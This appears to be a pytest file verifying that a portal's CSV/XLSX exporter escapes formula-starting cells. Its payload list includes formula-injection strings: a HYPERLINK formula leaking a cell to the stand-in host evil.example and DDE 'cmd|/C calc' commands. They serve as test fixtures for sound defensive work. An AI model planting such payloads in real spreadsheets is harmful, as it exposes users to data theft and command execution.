"""The one CSV/XLSX writer: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from portal.core.tabular import csv_bytes, csv_stream, xlsx_bytes
from portal.models import ImportBatch
from tests.support.imports import HEADER, csv_of, people

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_that_start_a_formula_are_written_as_text(payload):
    ((cell,),) = read_csv(csv_bytes([[payload]]))
    assert cell == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_cells_that_start_a_formula_are_text_not_formulas(payload):
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([[payload]]))).active
    cell = sheet["A1"]
    assert cell.data_type == "s"
    assert cell.value == "'" + payload


def test_numbers_and_dates_stay_numbers_and_dates():
    row = [-5, -2.5, 0, 1_500_000, date(1980, 5, 14), None, "Siti Aminah", "RT 01/-"]
    ((csv_row,),) = [read_csv(csv_bytes([row]))]
    assert csv_row == ["-5", "-2.5", "0", "1500000", "1980-05-14", "", "Siti Aminah", "RT 01/-"]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([row]))).active
    values = [c.value for c in sheet[1]]
    assert values[:4] == [-5, -2.5, 0, 1_500_000]
    assert values[4].date() == date(1980, 5, 14)
    assert values[6:] == ["Siti Aminah", "RT 01/-"]


def test_the_stream_and_the_whole_file_agree():
    rows = [["NIK", "Nama"], ["'6402065505800001", "=1+1"]]
    assert "".join(csv_stream(rows)).encode() == csv_bytes(rows)


def test_refused_rows_download_neutralises_formulas_from_the_file(login_as, client, db):
    login_as("officer")
    rows = people(len(PAYLOADS))
    for row, payload in zip(rows, PAYLOADS, strict=True):
        row["name"] = payload.replace("\r", "").replace("\t", "")  # one line per row
        row["born"] = "99/99/1999"  # refused: not a date
    header = HEADER.replace("Keterampilan", '=HYPERLINK("http://evil.example")')
    form = {"kind": "recipients", "source": "DTKS", "default_category_id": "0"}
    form["file"] = (io.BytesIO(csv_of(rows, header)), "dtks.csv")
    client.post("/registry/imports/new", data=form, content_type="multipart/form-data")
    batch = db.session.scalar(select(ImportBatch))
    client.post(
        f"/registry/imports/{batch.id}/mapping",
        data={name: str(index) for name, index in batch.mapping.items()},
    )
    response = client.get(f"/registry/imports/{batch.id}/refused.csv")
    assert response.status_code == 200
    written = read_csv(response.get_data())
    assert written[0][-2] == '\'=HYPERLINK("http://evil.example")'
    names = [line[3] for line in written[1:]]
    assert len(names) == len(PAYLOADS)
    assert all(name.startswith("'") for name in names), names
    cells = [cell for line in written for cell in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [line[0] for line in written[1:]] == [str(n) for n in range(2, 2 + len(PAYLOADS))]


WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|xlsxwriter")


def test_no_other_module_writes_csv_or_xlsx():
    """Later exports go through core.tabular too, so every download stays safe."""
    portal = Path(__file__).resolve().parent.parent / "portal"
    writers = [
        str(path.relative_to(portal))
        for path in portal.rglob("*.py")
        if WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert writers == ["core/tabular.py"]


def test_a_fixed_refused_rows_file_imports_its_cells_as_they_were():
    from portal.registry.imports.columns import text

    assert text(" '+6281234567890 ") == "+6281234567890"
    assert text("'-") == "-"
    assert text("'=1+1") == "=1+1"
    assert text("'") == "'" and text("'Aminah") == "'Aminah"
